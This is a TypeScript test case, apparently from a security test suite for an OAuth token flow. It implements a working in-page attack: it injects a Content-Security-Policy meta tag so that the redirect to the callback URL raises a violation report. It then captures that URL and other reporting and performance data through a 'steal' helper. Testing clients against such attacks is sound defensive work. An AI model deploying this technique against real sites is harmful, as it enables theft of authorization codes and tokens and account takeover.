import { attack } from "../attack.js";

export default attack({
  name: "adds a policy whose violation reports the callback's URL",
  threat: "acquisition of new tokens",
  target: "any",
  alone: true,
  // A page may always add a policy. The redirect to the callback violates it before the request reaches worker or host.
  async payload(it) {
    const { ReportingObserver } = window as unknown as {
      ReportingObserver?: new (callback: (reports: { toJSON(): unknown }[]) => void) => { observe(): void };
    };
    addEventListener("securitypolicyviolation", (event) =>
      it.steal(event.blockedURI, event.documentURI, event.sourceFile, event.sample, event.referrer),
    );
    if (ReportingObserver)
      new ReportingObserver((reports) => it.steal(reports.map((r) => r.toJSON()))).observe();
    const { origin } = new URL(it.authorizationEndpoint);
    const meta = document.createElement("meta");
    meta.httpEquiv = "Content-Security-Policy";
    meta.content = `frame-src ${origin}; img-src ${origin}`;
    document.head.append(meta);
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame, Object.assign(new Image(), { src: it.authorizationUrl() }));
    await it.pause(1_500);
    try {
      it.steal(frame.contentWindow?.location.href);
    } catch {
      // Cross-origin.
    }
    it.steal(performance.getEntries());
  },
});
